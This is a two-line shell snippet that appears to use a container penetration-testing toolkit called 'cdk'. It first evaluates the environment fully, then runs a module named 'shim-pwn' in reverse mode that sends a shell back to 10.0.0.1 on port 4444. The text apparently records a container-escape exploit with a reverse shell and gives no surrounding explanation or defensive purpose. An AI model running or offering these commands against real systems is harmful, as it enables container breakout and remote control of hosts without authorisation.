./cdk evaluate --full
./cdk run shim-pwn reverse 10.0.0.1 4444
